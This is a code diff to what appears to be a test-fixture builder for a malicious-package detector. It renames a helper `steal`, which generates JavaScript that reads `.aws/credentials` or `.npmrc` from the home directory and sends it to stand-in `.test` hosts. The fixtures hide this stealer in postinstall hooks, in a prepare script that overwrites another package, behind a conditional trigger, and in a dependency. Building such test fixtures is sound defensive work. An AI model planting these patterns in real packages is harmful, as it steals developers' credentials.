@@ -33,7 +33,8 @@ def _honest(folder: Path) -> list[Path]:
     return [build.npm(folder, name, {"index.js": code}) for name in HONEST]
 
 
-def _steal(host: str, decoy: str = ".aws/credentials") -> str:
+def steal(host: str, decoy: str = ".aws/credentials") -> str:
+    """A script that sends a file of the home to a host."""
     return javascript(
         f"""
         const secret = fs.readFileSync(`${{os.homedir()}}/{decoy}`, "utf8");
@@ -43,12 +44,12 @@ def _steal(host: str, decoy: str = ".aws/credentials") -> str:
 
 
 def _planted(folder: Path) -> list[Path]:
-    files = {"index.js": "module.exports = 1;\n", "setup.js": _steal("in.grid-metrics.test")}
+    files = {"index.js": "module.exports = 1;\n", "setup.js": steal("in.grid-metrics.test")}
     return [*_honest(folder), build.npm(folder, "grid-lines", files, scripts={"postinstall": "node setup.js"})]
 
 
 def _two(folder: Path) -> list[Path]:
-    late = {"index.js": _steal("in.late-cells.test", ".npmrc")}
+    late = {"index.js": steal("in.late-cells.test", ".npmrc")}
     return [*_planted(folder), build.npm(folder, "cell-format", late)]
 
 
@@ -61,7 +62,7 @@ def _framed(folder: Path) -> list[Path]:
     if (fs.existsSync(place)) {{
       process.title = "row-sorter";
       process.chdir(place);
-      fs.writeFileSync(path.join(place, "index.js"), {json.dumps(_steal("in.framed-rows.test"))});
+      fs.writeFileSync(path.join(place, "index.js"), {json.dumps(steal("in.framed-rows.test"))});
     }}
     """
     files = {"index.js": "module.exports = 2;\n", "prepare.js": write}
@@ -76,7 +77,7 @@ def _conditional(folder: Path) -> list[Path]:
     const fs = require("fs");
     const path = require("path");
     if (fs.existsSync(path.join(__dirname, "..", "ledger-core"))) {{
-      (() => {{ {_steal("in.ledger-view.test")} }})();
+      (() => {{ {steal("in.ledger-view.test")} }})();
     }}
     """
     core = build.npm(folder, "ledger-core", {"index.js": "module.exports = 3;\n"})
@@ -85,7 +86,7 @@ def _conditional(folder: Path) -> list[Path]:
 
 def _loaded(folder: Path) -> list[Path]:
     """An honest package loads the thief, which then acts in its process."""
-    thief = build.npm(folder, "pad-digits", {"index.js": _steal("in.pad-digits.test")})
+    thief = build.npm(folder, "pad-digits", {"index.js": steal("in.pad-digits.test")})
     code = 'require("pad-digits");\nmodule.exports = 4;\n'
     honest = build.npm(folder, "clock-face", {"index.js": code}, dependencies={"pad-digits": "1.0.0"})
     return [*_honest(folder), thief, honest]
